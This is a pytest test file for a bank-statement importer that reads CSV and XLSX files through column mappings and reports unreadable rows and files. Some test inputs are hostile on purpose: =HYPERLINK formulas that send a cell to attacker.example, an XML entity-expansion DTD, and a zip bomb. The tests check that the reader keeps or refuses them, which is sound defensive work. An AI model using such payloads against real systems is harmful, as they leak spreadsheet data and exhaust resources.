"""CSV and XLSX bank statements read through a column mapping, as banks export them: a German Soll/Haben file in
Windows-1252 with a preamble and a closing balance, a Sparkasse CSV-CAMT with every cell quoted, a UK file of signed
amounts in UTF-8 with a BOM, a workbook of date and number cells; rows and files that cannot be read are named."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import Workbook

from portal.integrations.bank_tables import MappingError, RowError, TableMapping, read
from portal.integrations.bank_transactions import CREDIT, DEBIT, BankFileError, Transaction
from tests.support.paths import DATA

pytestmark = pytest.mark.no_db
BANK = DATA / "bank"
GERMAN = (BANK / "deutsche_bank_soll_haben.csv").read_bytes()
SPARKASSE = (BANK / "sparkasse_camt_v2.csv").read_bytes()
UK = (BANK / "uk_signed_amounts.csv").read_bytes()
WORKBOOK = (BANK / "postfinance_debit_credit.xlsx").read_bytes()
ACCOUNT = "DE89370400440532013000"

GERMAN_MAPPING = TableMapping(
    date_column="Buchungstag", value_date_column="Wert", debit_column="Soll", credit_column="Haben",
    currency_column="Währung", payer_name_column="Begünstigter / Auftraggeber", payer_iban_column="IBAN",
    reference_column="Kundenreferenz", text_columns=("Verwendungszweck",), decimal_separator=",",
    thousands_separator=".", header_row=5, footer_rows=1)
SPARKASSE_MAPPING = TableMapping(
    date_column="Buchungstag", value_date_column="Valutadatum", amount_column="Betrag", currency_column="Waehrung",
    payer_name_column="Beguenstigter/Zahlungspflichtiger", payer_iban_column="Kontonummer/IBAN",
    reference_column="Kundenreferenz (End-to-End)", text_columns=("Verwendungszweck",), date_formats=("%d.%m.%y",),
    decimal_separator=",")
UK_MAPPING = TableMapping(date_column="Date", amount_column="Amount (GBP)", currency="GBP",
                          payer_name_column="Counter Party", text_columns=("Reference",), date_formats=("%d/%m/%Y",),
                          thousands_separator=",")
WORKBOOK_MAPPING = TableMapping(
    date_column="Booking date", value_date_column="Value date", debit_column="Debit", credit_column="Credit",
    currency_column="Currency", payer_name_column="Payer", payer_iban_column="Payer IBAN",
    reference_column="Reference", text_columns=("Description",), header_row=4)


def rows(content: bytes, mapping: TableMapping, file_format: str = "csv") -> list:
    return list(read(content, mapping, "statement", account_iban=ACCOUNT, file_format=file_format))


def test_a_german_soll_haben_file_in_windows_1252_skips_preamble_and_closing_balance():
    found = rows(GERMAN, GERMAN_MAPPING)
    assert [(t.where, t.direction, t.amount, t.currency) for t in found] == [
        ("line 6", CREDIT, Decimal("1071.00"), "EUR"),
        ("line 7", DEBIT, Decimal("89.90"), "EUR"),  # Soll written with a minus: still money out
        ("line 8", CREDIT, Decimal("150.50"), "EUR"),
        ("line 9", CREDIT, Decimal("12500.00"), "EUR"),  # "12.500,00": the dot groups thousands
    ]
    acme, _, mueller, globex = found
    assert acme == Transaction(
        statement="", account_iban=ACCOUNT, direction=CREDIT, amount=Decimal("1071.00"), currency="EUR",
        booking_date=date(2026, 12, 3), value_date=date(2026, 12, 3), status="BOOK", bank_reference="2026120300001",
        end_to_end_id="", counterparty_name="Acme Logistics GmbH", counterparty_iban="DE02120300000000202051",
        text="INV-2026-000123 November services", where="line 6")
    assert (mueller.counterparty_name, mueller.text) == ("Müller Maschinenbau AG",
                                                         "Rechnung INV-2026-000130; Kunde 4711")
    assert (globex.booking_date, globex.value_date) == (date(2026, 12, 4), date(2026, 12, 5))


def test_a_sparkasse_file_quotes_every_cell_and_a_cell_may_span_two_lines():
    found = rows(SPARKASSE, SPARKASSE_MAPPING)
    assert [(t.where, t.direction, t.amount, t.booking_date) for t in found] == [
        ("line 2", CREDIT, Decimal("2500.00"), date(2026, 12, 7)),
        ("line 3", DEBIT, Decimal("310.45"), date(2026, 12, 7)),
        ("line 4", CREDIT, Decimal("980.10"), date(2026, 12, 8)),
    ]
    assert found[2].text == "Rechnung inv 2026 000151 Danke"
    assert found[0].bank_reference == "E2E-HELV-0001"


def test_a_uk_file_of_signed_amounts_in_utf_8_with_a_bom_keeps_formula_text_as_text():
    found = rows(UK, UK_MAPPING)
    assert [(t.direction, t.amount, t.counterparty_name) for t in found] == [
        (CREDIT, Decimal("1250.00"), "Acme Logistics Ltd"),
        (DEBIT, Decimal("45.99"), "Office Supplies Co"),
        (CREDIT, Decimal("300.00"), "Globex UK Ltd"),
        (CREDIT, Decimal("99.00"), "Initech Europe"),
    ]
    assert found[3].text == '=HYPERLINK("http://attacker.example/?d="&A1,"Details")'
    assert {t.currency for t in found} == {"GBP"}


def test_a_workbook_gives_its_date_and_number_cells_exactly():
    found = rows(WORKBOOK, WORKBOOK_MAPPING, "xlsx")
    assert [(t.where, t.direction, t.amount, t.currency) for t in found] == [
        ("row 5", CREDIT, Decimal("2500"), "CHF"),
        ("row 6", DEBIT, Decimal("10.35"), "CHF"),
        ("row 7", CREDIT, Decimal("1234.55"), "CHF"),
        ("row 8", CREDIT, Decimal("0.3"), "CHF"),  # stored as the float 0.30000000000000004: read at 15 digits
    ]
    helvetia, _, alpen, donau = found
    assert (helvetia.booking_date, helvetia.counterparty_iban) == (date(2026, 12, 1), "CH5604835012345678009")
    assert alpen.text == '=HYPERLINK("http://attacker.example/","Rechnung")'  # the formula's text, not its value
    assert alpen.value_date == date(2026, 12, 4)
    assert donau.bank_reference == "20261208004"  # a number cell read as the reference's digits


def test_columns_by_number_in_a_file_without_titles():
    content = "03.12.2026;Acme Logistics GmbH;1.071,00;INV-2026-000123\n04.12.2026;Stadtwerke;-310,45;Strom\n"
    mapping = TableMapping(date_column=1, payer_name_column=2, amount_column=3, text_columns=(4,), currency="EUR",
                           decimal_separator=",", thousands_separator=".", header_row=0)
    found = rows(content.encode(), mapping)
    assert [(t.where, t.direction, t.amount, t.counterparty_name) for t in found] == [
        ("line 1", CREDIT, Decimal("1071.00"), "Acme Logistics GmbH"), ("line 2", DEBIT, Decimal("310.45"),
                                                                       "Stadtwerke")]


@pytest.mark.parametrize(("cell", "decimal", "thousands", "signed"), [
    ("1.071,00", ",", ".", Decimal("1071.00")),
    ("89,90-", ",", ".", Decimal("-89.90")),  # the trailing minus of older German exports
    ("€ 1.071,00", ",", ".", Decimal("1071.00")),
    ("+12,00", ",", "", Decimal("12.00")),
    ("1 071,50", ",", " ", Decimal("1071.50")),
    ("1\u00a0071,50", ",", " ", Decimal("1071.50")),  # a no-break space groups thousands in French exports
    ("-£1,250.00", ".", ",", Decimal("-1250.00")),
    ("1'250.00", ".", "'", Decimal("1250.00")),
])
def test_amounts_are_read_in_the_mapping_s_notation(cell, decimal, thousands, signed):
    mapping = TableMapping(date_column=1, amount_column=2, currency="EUR", header_row=0, delimiter=";",
                           decimal_separator=decimal, thousands_separator=thousands)
    (found,) = rows(f"03.12.2026;{cell}\n".encode(), mapping)
    assert (found.amount, found.direction) == (abs(signed), CREDIT if signed > 0 else DEBIT)


@pytest.mark.parametrize(("line", "message"), [
    ("05.12.2026;;;Acme;;;;;;12.5;EUR", "line 6: Haben: “12.5” is not an amount like 1.234,50"),
    ("05.12.2026;;;Acme;;;;;;=1+1;EUR", "line 6: Haben: “=1+1” is a formula, not an amount"),
    ("31.02.2026;;;Acme;;;;;;12,50;EUR", "line 6: Buchungstag: “31.02.2026” is not a date like 31.12.2026"),
    ("05.12.2026;;;Acme;;;;;5,00;12,50;EUR", "line 6: Soll/Haben: both columns hold an amount"),
    ("05.12.2026;;;Acme;;;;;;;EUR", "line 6: Soll/Haben: neither column holds an amount"),
    ("05.12.2026;;;Acme;;;;;;12,50;Euro", "line 6: Währung: “EURO” is not a three-letter currency"),
    ("05.12.2026;;;Acme", "line 6: Währung: missing (the row has 4 cells)"),
    ("05.12.2026;;;Acme;;;;;;12,505;EUR", "line 6: Haben: allows at most 2 decimal places"),
])
def test_a_row_that_cannot_be_read_is_a_row_error_naming_line_and_column(line, message):
    content = GERMAN.decode("cp1252").splitlines()
    content[5] = line
    found = rows("\r\n".join(content).encode("cp1252"), GERMAN_MAPPING)
    assert isinstance(found[0], RowError) and str(found[0]) == message
    assert all(isinstance(t, Transaction) for t in found[1:])  # the other rows still read


def test_a_workbook_row_error_names_the_row_and_the_column_title():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Date", "Amount", "Text"])
    sheet.append(["2026-12-03", "1071.00", "Acme"])
    sheet.append([date(2026, 12, 4), 99.5, "Globex"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    mapping = TableMapping(date_column="Date", amount_column="Amount", text_columns=("Text",), currency="EUR",
                           date_formats=("%d.%m.%Y",))
    first, second = rows(buffer.getvalue(), mapping, "xlsx")
    assert str(first) == "row 2: Date: “2026-12-03” is not a date like 31.12.2026"
    assert (second.amount, second.booking_date) == (Decimal("99.5"), date(2026, 12, 4))


@pytest.mark.parametrize(("settings", "field", "message"), [
    ({"date_column": "Datum", "currency": "EUR"}, "amount column", "map one signed amount column, or both"),
    ({"date_column": "Datum", "amount_column": "Betrag"}, "currency", "give the three-letter currency"),
    ({"date_column": "Datum", "amount_column": "Betrag", "currency": "EUR", "decimal_separator": ",",
      "thousands_separator": ","}, "thousands separator", "differ from the decimal separator"),
    ({"date_column": "Datum", "amount_column": 3, "currency": "EUR", "header_row": 0}, "date column",
     "must be a column number: the file has no title row"),
    ({"date_column": "Datum", "amount_column": "Betrag", "currency": "EUR", "date_formats": ["dd.mm.yyyy"]},
     "date formats", "such as %d.%m.%Y"),
    ({"date_column": "Datum", "amount_column": "Betrag", "currency": "EUR", "colour": "red"}, "colour",
     "is not a setting"),
    ({"amount_column": "Betrag", "currency": "EUR"}, "date column", "is required"),
])
def test_a_mapping_that_cannot_work_names_the_setting(settings, field, message):
    with pytest.raises(MappingError) as refused:
        TableMapping.from_dict(settings)
    assert refused.value.field == field and message in refused.value.message


def test_a_column_number_typed_as_text_is_a_column_number():
    mapping = TableMapping.from_dict({"date_column": "1", "amount_column": " 3 ", "text_columns": ["4", "Memo"],
                                      "currency": "EUR", "header_row": 1})
    assert (mapping.date_column, mapping.amount_column, mapping.text_columns) == (1, 3, (4, "Memo"))
    found = rows(b"Datum;Name;Betrag;Zweck;Memo\n03.12.2026;Acme;1071,00;INV-2026-000123;Dezember\n",
                 TableMapping(**{**mapping.__dict__, "decimal_separator": ","}))
    assert (found[0].amount, found[0].text) == (Decimal("1071.00"), "INV-2026-000123 Dezember")


def test_a_mapping_survives_its_stored_form():
    assert TableMapping.from_dict(GERMAN_MAPPING.as_dict()) == GERMAN_MAPPING
    assert GERMAN_MAPPING.as_dict()["text_columns"] == ["Verwendungszweck"]


@pytest.mark.parametrize(("content", "mapping", "message"), [
    (GERMAN, TableMapping(**{**GERMAN_MAPPING.__dict__, "encoding": "utf-8"}),
     "statement: line 1: byte 0xe4 is not UTF-8 text (check the mapping's encoding)"),
    ("Buchungstag;Betrag\n03.12.2026;1,00\n".encode("utf-16-le"), SPARKASSE_MAPPING,
     "statement: line 1: a NUL byte: not a text file in UTF-8 or Windows-1252"),
    (b"Buchungstag;Betrag\n03.12.2026;\x81\n", SPARKASSE_MAPPING,
     "statement: line 2: byte 0x81 is not UTF-8 or Windows-1252 text"),
    ((BANK / "mt940_utf8.sta").read_bytes(), SPARKASSE_MAPPING,
     "statement: line 1: no column “Buchungstag” in the title row (it has “:20:STARTUMSE”)"),
    (UK, SPARKASSE_MAPPING, "statement: line 1: no column “Buchungstag” in the title row (it has “Date”, "),
    (SPARKASSE[: SPARKASSE.index(b"Rechnung inv") + 8], SPARKASSE_MAPPING,
     "statement: line 4: not readable as CSV (unexpected end of data)"),
    (b"Umsaetze\n", GERMAN_MAPPING, "statement: line 5: no title row (the file ends before it)"),
])
def test_a_file_that_cannot_be_read_names_the_line(content, mapping, message):
    with pytest.raises(BankFileError) as refused:
        rows(content, mapping)
    assert str(refused.value).startswith(message)


def test_a_file_above_50_mb_is_refused_before_it_is_read():
    with pytest.raises(BankFileError, match=re.escape("statement: larger than 50 MB")):
        read(b"x" * (50 * 1024 * 1024 + 1), UK_MAPPING, "statement")


def workbook_with(member: str, data: bytes) -> bytes:
    """The test workbook with one of its parts replaced."""
    source, buffer = zipfile.ZipFile(io.BytesIO(WORKBOOK)), io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item, data if item.filename == member else source.read(item))
    return buffer.getvalue()


@pytest.mark.parametrize(("content", "message"), [
    (WORKBOOK[: len(WORKBOOK) // 2], "statement: not a readable XLSX workbook (the ZIP archive is broken"),
    (workbook_with("xl/worksheets/sheet1.xml", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
                   b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><worksheet>&b;</worksheet>'),
     "statement: xl/worksheets/sheet1.xml: declares a DTD (<!DOCTYPE>, entities)"),
    (workbook_with("xl/workbook.xml", b"<workbook"), "statement: not a readable XLSX workbook"),
    (workbook_with("xl/worksheets/sheet1.xml", zipfile.ZipFile(io.BytesIO(WORKBOOK))
                   .read("xl/worksheets/sheet1.xml")[:900]), "statement: sheet Transactions: row "),
])
def test_a_broken_or_hostile_workbook_is_refused(content, message):
    with pytest.raises(BankFileError) as refused:
        rows(content, WORKBOOK_MAPPING, "xlsx")
    assert str(refused.value).startswith(message)


def test_a_workbook_that_unpacks_to_more_than_200_mb_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("xl/worksheets/sheet1.xml", b"0" * (201 * 1024 * 1024))
    with pytest.raises(BankFileError, match=re.escape("statement: unpacked: larger than 200 MB")):
        rows(buffer.getvalue(), WORKBOOK_MAPPING, "xlsx")


def test_a_missing_sheet_is_named_with_the_sheets_there_are():
    mapping = TableMapping(**{**WORKBOOK_MAPPING.__dict__, "sheet": "Umsätze"})
    with pytest.raises(BankFileError, match="no sheet “Umsätze” \\(the workbook has Transactions\\)"):
        rows(WORKBOOK, mapping, "xlsx")
